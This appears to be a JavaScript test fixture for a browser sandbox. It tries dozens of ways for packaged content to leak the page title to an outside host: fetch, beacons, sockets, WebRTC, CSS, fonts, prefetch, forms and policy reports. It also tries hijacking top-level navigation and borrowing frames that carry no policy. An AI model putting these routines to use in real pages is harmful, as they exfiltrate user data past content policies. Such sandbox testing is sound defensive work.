/** Ways to tell another host something. The test counts what arrives there. */

/** @param {{ outside: string, stun: string }} targets */
function waysOut({ outside, stun }) {
  const to = (way) => `${outside}/${way}?stolen=${encodeURIComponent(document.title)}`;
  const inFrame = (html) => {
    const frame = document.createElement("iframe");
    frame.srcdoc = html;
    document.body.append(frame);
  };
  const worker = (code) => new Worker(URL.createObjectURL(new Blob([code], { type: "text/javascript" })));
  const style = (css) => {
    const element = document.createElement("style");
    element.textContent = css;
    document.head.append(element);
  };
  return {
    fetch: () => fetch(to("fetch"), { mode: "no-cors", credentials: "include" }).then(() => "answered"),
    keepalive: () =>
      fetch(to("keepalive"), { mode: "no-cors", method: "POST", body: "x", keepalive: true }).then(
        () => "answered",
      ),
    xhr: () =>
      new Promise((done, fail) => {
        const request = new XMLHttpRequest();
        request.onload = () => done("answered");
        request.onerror = fail;
        request.open("GET", to("xhr"));
        request.send();
      }),
    beacon: () => void navigator.sendBeacon(to("beacon"), "x"),
    webSocket: () =>
      new Promise((done, fail) => {
        const socket = new WebSocket(to("web-socket").replace("http", "ws"));
        socket.onopen = () => done("open");
        socket.onerror = fail;
      }),
    eventSource: () =>
      new Promise((done, fail) => {
        const source = new EventSource(to("event-source"));
        source.onopen = () => done("open");
        source.onerror = fail;
      }),
    webTransport: () =>
      new WebTransport(to("web-transport").replace("http:", "https:")).ready.then(() => "open"),
    image: () => loads("img", { src: to("image") }),
    script: () => loads("script", { src: to("script") }),
    module: () => import(to("module")).then(() => "loaded"),
    styleSheet: () => loads("link", { rel: "stylesheet", href: to("style-sheet") }),
    styleImport: () => style(`@import url("${to("style-import")}");`),
    styleImage: () => style(`body { background: url("${to("style-image")}") }`),
    font: () => new FontFace("stolen", `url("${to("font")}")`).load().then(() => "loaded"),
    video: () => loads("video", { src: to("video"), preload: "auto" }),
    track: () => {
      const video = document.createElement("video");
      document.body.append(video);
      return loads("track", { src: to("track"), default: "true", kind: "captions" }, video);
    },
    object: () => loads("object", { data: to("object") }),
    embed: () => loads("embed", { src: to("embed") }),
    frame: () => void loads("iframe", { src: to("frame") }),
    frameInFrame: () => inFrame(`<iframe src="${to("frame-in-frame")}"></iframe>`),
    frameThatMoves: () =>
      inFrame(`<script>location = ${JSON.stringify(to("frame-that-moves"))}</scr` + "ipt>"),
    frameThatRefreshes: () =>
      inFrame(`<meta http-equiv="refresh" content="0; url=${to("frame-that-refreshes")}">`),
    dataFrame: () =>
      void loads("iframe", { src: `data:text/html,<img src="${encodeURIComponent(to("data-frame"))}">` }),
    worker: () => void worker(`fetch(${JSON.stringify(to("worker"))}, { mode: "no-cors" })`),
    workerImport: () => void worker(`importScripts(${JSON.stringify(to("worker-import"))})`),
    prefetch: () => void loads("link", { rel: "prefetch", href: to("prefetch") }),
    preload: () => void loads("link", { rel: "preload", as: "image", href: to("preload") }),
    modulePreload: () => void loads("link", { rel: "modulepreload", href: to("module-preload") }),
    icon: () => void loads("link", { rel: "icon", href: to("icon") }),
    manifest: () => void loads("link", { rel: "manifest", href: to("manifest") }),
    speculation: () => {
      const rules = document.createElement("script");
      rules.type = "speculationrules";
      rules.textContent = JSON.stringify({
        prefetch: [{ urls: [to("speculation")], eagerness: "immediate" }],
      });
      document.head.append(rules);
    },
    ping: () => {
      const link = document.createElement("a");
      Object.assign(link, { href: "#", ping: to("ping") });
      document.body.append(link);
      link.click();
    },
    formPost: () => submits({ action: to("form-post"), method: "post", target: "hostile-form" }),
    formGet: () => submits({ action: to("form-get"), method: "get", target: "hostile-form" }),
    policyReport: () => {
      const policy = document.createElement("meta");
      policy.httpEquiv = "Content-Security-Policy";
      policy.content = `img-src *; report-uri ${to("policy-report")}`;
      document.head.append(policy);
    },
    rtc: async () => {
      const peer = new RTCPeerConnection({
        iceServers: [
          { urls: `turn:${stun}?transport=udp`, username: "stolen", credential: "x" },
          { urls: `stun:${stun}` },
        ],
      });
      peer.createDataChannel("x");
      await peer.setLocalDescription(await peer.createOffer());
    },
  };
}

/** @param {Record<string, string>} attributes */
function submits(attributes) {
  if (attributes.target) void loads("iframe", { name: attributes.target, src: "about:blank" });
  const form = document.createElement("form");
  for (const [name, value] of Object.entries(attributes)) form.setAttribute(name, value);
  document.body.append(form);
  form.submit();
}

window.hostile.tellAnotherHost = (targets) => tryEach(waysOut(targets));

/** Opens a connection without a request: a host name can carry words. */
window.hostile.connectAhead = ({ outside }) =>
  tryEach({
    preconnect: () => void loads("link", { rel: "preconnect", href: outside }),
    dnsPrefetch: () => void loads("link", { rel: "dns-prefetch", href: outside }),
  });

window.hostile.openWindows = ({ outside }) =>
  tryEach({
    open: () => window.open(`${outside}/open`) && "opened",
    openBlank: () => window.open("about:blank") && "opened",
    openTop: () => window.open(`${outside}/open-top`, "_top") && "opened",
    openFromShell: () => parent.open(`${outside}/open-from-shell`) && "opened",
    link: () => {
      const link = document.createElement("a");
      Object.assign(link, { href: `${outside}/link`, target: "_blank" });
      document.body.append(link);
      link.click();
    },
    form: () => submits({ action: `${outside}/form-window`, target: "_blank" }),
  });

window.hostile.download = () =>
  tryEach({
    blob: () => clickDownload(URL.createObjectURL(new Blob(["stolen"]))),
    data: () => clickDownload("data:application/octet-stream,stolen"),
    own: () => clickDownload("story.js"),
    showSave: () => window.showSaveFilePicker?.(),
  });

function clickDownload(href) {
  const link = document.createElement("a");
  Object.assign(link, { href, download: "stolen.bin" });
  document.body.append(link);
  link.click();
}

/** Leads its own frame elsewhere; the package is gone after that. */
window.hostile.moveOwnFrame = ({ outside }) => void (location.href = `${outside}/own-frame?stolen=1`);
window.hostile.submitOwnFrame = ({ outside }) =>
  submits({ action: `${outside}/own-form?stolen=1`, method: "post" });
window.hostile.moveShell = ({ outside }) => void (parent.location.href = `${outside}/shell?stolen=1`);
window.hostile.moveTop = ({ outside }) =>
  tryEach({
    href: () => void (top.location.href = `${outside}/top`),
    replace: () => void top.location.replace(`${outside}/top-replace`),
    form: () => submits({ action: `${outside}/top-form`, target: "_top" }),
    link: () => {
      const link = document.createElement("a");
      Object.assign(link, { href: `${outside}/top-link`, target: "_top" });
      document.body.append(link);
      link.click();
    },
    close: () => void top.close(),
    history: () => void top.history.back(),
  });

/** Answers of its own origin that may bring no policy: code that runs in their frames would be bound by none. */
window.hostile.borrowFrames = ({ outside, addresses }) =>
  tryEach(
    Object.fromEntries(
      addresses.map((address) => [
        address,
        async () => {
          const frame = document.createElement("iframe");
          frame.src = address;
          await new Promise((done) => {
            frame.onload = done;
            document.body.append(frame);
          });
          const inside = frame.contentWindow;
          new inside.Image().src = `${outside}/borrowed-image`;
          await inside.fetch(`${outside}/borrowed`, { mode: "no-cors" });
          return "answered";
        },
      ]),
    ),
  );

/** WebRTC of a frame without an address. Chromium may end the whole package for it. */
window.hostile.callFromFrame = async ({ stun }) => {
  const frame = document.createElement("iframe");
  document.body.append(frame);
  const peer = new frame.contentWindow.RTCPeerConnection({ iceServers: [{ urls: `stun:${stun}` }] });
  peer.createDataChannel("x");
  await peer.setLocalDescription(await peer.createOffer());
};
